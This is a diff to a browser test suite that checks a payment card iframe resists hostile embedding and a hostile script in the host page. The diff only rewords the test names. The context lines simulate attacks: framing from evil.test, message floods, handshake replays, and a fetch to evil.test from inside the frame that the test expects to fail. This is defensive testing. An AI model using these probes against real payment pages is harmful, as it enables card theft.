@@ -1,6 +1,6 @@
 /**
- * P34: the frame cannot be framed by strangers, and what a hostile script in the right page does with it gets no card out of
- * it. The real response of createFramePage with the real script, in Chromium; the parents come from its configuration.
+ * P34: other pages cannot embed the card frame, and a hostile script in the right page gets no card out of it. Uses the
+ * response of createFramePage with the built script, in Chromium; the allowed parents come from its configuration.
  */
 import type { Frame, Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -71,7 +71,7 @@ describe('the frame', () => {
     ['a stranger that holds the shop that holds it', 'https://evil.test/nested'],
   ] as const;
 
-  it('is drawn in the pages that it is meant for', async () => {
+  it('is rendered in the allowed pages', async () => {
     expect(await renderedIn(`${SHOP}/holder`)).toBe(1);
     expect(await renderedIn('https://other.test/holder')).toBe(1);
   });
@@ -80,7 +80,7 @@ describe('the frame', () => {
     await expectNotRendered(address);
   });
 
-  it('is not drawn in a sandboxed page without an origin', async () => {
+  it('is not rendered in a sandboxed page without an origin', async () => {
     web.put('https://evil.test/box', `<!doctype html><iframe sandbox="allow-scripts" src="${SHOP}/holder"></iframe>`);
     await expectNotRendered('https://evil.test/box');
   });
@@ -126,7 +126,7 @@ describe('a hostile script in the shop’s own page', () => {
     return `${header}.${payload}.${signature}`;
   }
 
-  it('gets no card saved with a key that pays, and one with a key that saves, without a security code', async () => {
+  it('can save a card only with a key for saving, and without the security code', async () => {
     const storeUrl = `${SERVICE}/webapi/v3/dvtokens/withauthkey/${PAYLOAD.authKey}`;
     await visit();
     // What was typed to pay is gone before anything else is asked for.
@@ -156,7 +156,7 @@ describe('a hostile script in the shop’s own page', () => {
     ]);
   });
 
-  it('gets an outcome and no card with the right key, so the others were not refused by a frame that refuses all', async () => {
+  it('gets an outcome without card data with the right key, so the frame does not refuse every key', async () => {
     await visit();
     const key = signKey(privateKey, { submitUrl, terms });
     expect(await shop.submit(key)).toMatchObject({ code: 'field_invalid' });
@@ -170,7 +170,7 @@ describe('a hostile script in the shop’s own page', () => {
     expect(heard.replace(/\D/g, '')).not.toContain(CARD.number);
   });
 
-  it('reaches nothing in the frame by paths, and the frame goes on', async () => {
+  it('reaches nothing in the frame by property paths, and the frame still works', async () => {
     await visit();
     const messages = [
       { type: 'GET', path: ['submit'] },
@@ -192,7 +192,7 @@ describe('a hostile script in the shop’s own page', () => {
     expect(await frame.evaluate(() => 'x' in {})).toBe(false);
   });
 
-  it('gets no second port by a handshake that it plays again', async () => {
+  it('gets no second port by a repeated handshake', async () => {
     await visit();
     const heard = await page.evaluate(
       async ([origin]) => {
@@ -217,7 +217,7 @@ describe('a hostile script in the shop’s own page', () => {
     expect(heard).toBe(0);
   });
 
-  it('shuts itself out by a flood, and what is typed stays', async () => {
+  it('loses its port by a flood, and the typed values stay', async () => {
     await visit();
     await page.evaluate(async () => {
       for (let sent = 0; sent < 20_000; sent++) {
@@ -232,7 +232,7 @@ describe('a hostile script in the shop’s own page', () => {
     expect(await page.evaluate(() => thief.call('check'))).toBe(true);
   });
 
-  it('finds nothing typed any more in a frame that it leads away and back, and cannot read it there', async () => {
+  it('finds no typed values in a frame that it navigates away and back', async () => {
     await visit();
     const isReadable = await page.evaluate(() => {
       try {
@@ -256,7 +256,7 @@ describe('a hostile script in the shop’s own page', () => {
     expect(posts).toEqual([]);
   });
 
-  it('could not send the card elsewhere even from within the frame', async () => {
+  it('could not send the card elsewhere even inside the frame', async () => {
     await visit();
     const failed = await frame.evaluate(async () => {
       const ways = await Promise.allSettled([fetch('https://evil.test/x'), fetch('https://shop.test/x')]);
